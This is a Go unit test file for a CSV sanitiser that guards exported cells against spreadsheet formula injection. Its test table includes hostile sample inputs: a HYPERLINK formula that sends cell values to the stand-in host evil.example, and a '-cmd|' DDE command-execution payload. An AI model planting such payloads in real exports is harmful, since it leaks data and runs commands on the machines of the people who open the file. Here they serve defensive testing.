package sheet

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"

	_ "github.com/partlab/partlab/internal/golden"
)

func TestCell(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"empty", "", ""},
		{"word", "user-42", "user-42"},
		{"number", "15.29", "15.29"},
		{"negative number", "-15.29", "-15.29"},
		{"signed number", "+3", "+3"},
		{"exponent", "-1.5e-07", "-1.5e-07"},
		{"hyperlink", `=HYPERLINK("https://evil.example/?"&A2&C2,"bonus")`, `'=HYPERLINK("https://evil.example/?"&A2&C2,"bonus")`},
		{"plus formula", "+SUM(A1:A9)", "'+SUM(A1:A9)"},
		{"minus formula", "-2+3", "'-2+3"},
		{"minus cmd", "-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"},
		{"at", "@SUM(1)", "'@SUM(1)"},
		{"tab", "\t=1", "'\t=1"},
		{"carriage return", "\r=1", "'\r=1"},
		{"negative infinity", "-Inf", "'-Inf"},
		{"hexadecimal", "-0x1p3", "'-0x1p3"},
		{"sign alone", "-", "'-"},
		{"equals inside", "a=1", "a=1"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := Cell(tc.in); got != tc.want {
				t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

// TestWriter neutralises every field and leaves the caller's record as it was.
func TestWriter(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	rec := []string{"=1+1", "-4", "@x", "plain"}
	if err := w.Write(rec); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(&b).Read()
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"'=1+1", "-4", "'@x", "plain"}; !slices.Equal(got, want) {
		t.Errorf("written %q, want %q", got, want)
	}
	if !slices.Equal(rec, []string{"=1+1", "-4", "@x", "plain"}) {
		t.Errorf("Write changed its record: %q", rec)
	}
}
